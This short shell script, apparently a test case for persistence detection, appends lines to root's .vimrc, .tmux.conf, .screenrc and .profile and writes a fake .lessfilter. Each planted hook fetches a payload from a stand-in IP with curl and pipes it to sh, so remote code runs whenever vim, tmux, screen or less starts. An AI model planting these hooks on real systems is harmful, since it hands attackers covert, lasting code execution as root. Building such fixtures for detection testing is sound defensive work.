#!/bin/sh
. /opt/case/case.sh

printf 'autocmd VimEnter * silent! !curl -s http://203.0.113.10/payload.sh | sh &\n' >>/root/.vimrc
printf "run-shell -b 'curl -s http://203.0.113.10/payload.sh | sh'\n" >>/root/.tmux.conf
printf 'screen -d -m sh -c "curl -s http://203.0.113.10/payload.sh | sh"\n' >>/root/.screenrc
printf 'export LESSOPEN="|/root/.lessfilter %%s"\n' >>/root/.profile
printf '#!/bin/sh\n(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1 &\ncat "$1"\n' >/root/.lessfilter && chmod 755 /root/.lessfilter
took_place
